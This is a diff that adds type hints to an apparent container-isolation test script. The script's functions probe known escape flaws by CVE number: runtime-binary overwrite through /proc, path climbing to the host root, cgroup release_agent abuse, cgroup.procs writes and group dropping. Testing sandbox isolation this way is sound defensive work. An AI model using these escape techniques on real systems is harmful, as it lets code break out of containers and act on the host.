@@ -5,22 +5,28 @@
 It imports nothing of the project, since it runs on the container's own Python.
 """
 
+from __future__ import annotations
+
 import ctypes
 import errno
 import os
 import sys
 import time
 
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
 LIBC = ctypes.CDLL(None, use_errno=True)
 SECONDS = 4.0
 NEW_USER, NEW_MOUNTS, NEW_CGROUP = 0x10000000, 0x20000, 0x02000000
 
 
-def name_of(code):
-    return errno.errorcode.get(code, str(code))
+def name_of(code: int | None) -> str:
+    return errno.errorcode.get(code or 0, str(code))
 
 
-def overwrite(descriptor):
+def overwrite(descriptor: int | str) -> None:
     """Write to the program that a descriptor is of, as soon as nobody runs it any more.
 
     What is written is the byte that is there already. (CVE-2019-5736)
@@ -40,7 +46,7 @@ def overwrite(descriptor):
         return
 
 
-def watch(seconds):
+def watch(seconds: str) -> None:
     """Look at every process that comes: at its program and its descriptors.
 
     (CVE-2019-5736, CVE-2016-9962)
@@ -57,7 +63,7 @@ def watch(seconds):
     print("watched", flush=True)
 
 
-def look_at(process, ours):
+def look_at(process: str, ours: int) -> None:
     try:
         program = os.open(f"{process}/exe", os.O_RDONLY)
     except OSError:
@@ -80,7 +86,7 @@ def look_at(process, ours):
         os.close(reached)
 
 
-def is_our_own(program):
+def is_our_own(program: int) -> bool:
     """Whether a descriptor is of the file that has its path in our own root."""
     try:
         path = os.readlink(f"/proc/self/fd/{program}")
@@ -89,7 +95,7 @@ def is_our_own(program):
         return False
 
 
-def up(marker):
+def up(marker: str) -> None:
     """Climb from the working directory to the host's root. (CVE-2024-21626)"""
     try:
         with open("../" * 40 + marker.lstrip("/")) as found:
@@ -100,7 +106,7 @@ def up(marker):
     print("stands in", os.getcwd())
 
 
-def release_agent():
+def release_agent() -> None:
     """Have the kernel run a program of ours on the host. (CVE-2022-0492)"""
     for what, flags in (("user", NEW_USER | NEW_MOUNTS | NEW_CGROUP), ("cgroup", NEW_CGROUP)):
         pid = os.fork()
@@ -113,7 +119,7 @@ def release_agent():
     mount_and_write()
 
 
-def mount_and_write():
+def mount_and_write() -> None:
     os.makedirs("/tmp/hierarchy", exist_ok=True)
     for kind, data in ((b"cgroup", b"memory"), (b"cgroup", b"none,name=attack"), (b"cgroup2", b"")):
         if LIBC.mount(b"none", b"/tmp/hierarchy", kind, 0, data) == 0:
@@ -125,7 +131,7 @@ def mount_and_write():
             write(f"{directory}/release_agent")
 
 
-def write(path):
+def write(path: str) -> None:
     try:
         descriptor = os.open(path, os.O_WRONLY)
     except OSError as error:
@@ -135,7 +141,7 @@ def write(path):
         os.close(descriptor)
 
 
-def cgroups():
+def cgroups() -> None:
     """Write to the cgroups that are shown. (CVE-2023-25809)"""
     for directory, _, names in os.walk("/sys/fs/cgroup"):
         if "cgroup.procs" not in names:
@@ -150,7 +156,7 @@ def cgroups():
         write(f"{directory}/cgroup.procs")
 
 
-def drop_groups():
+def drop_groups() -> None:
     """Leave a group that is kept from something. (CVE-2018-7169)"""
     with open("/proc/self/setgroups") as setgroups:
         print("setgroups", setgroups.read().strip())
@@ -162,7 +168,7 @@ def drop_groups():
         print("DROPPED")
 
 
-TRIES = {
+TRIES: dict[str, Callable[..., None]] = {
     "overwrite": overwrite,
     "watch": watch,
     "up": up,
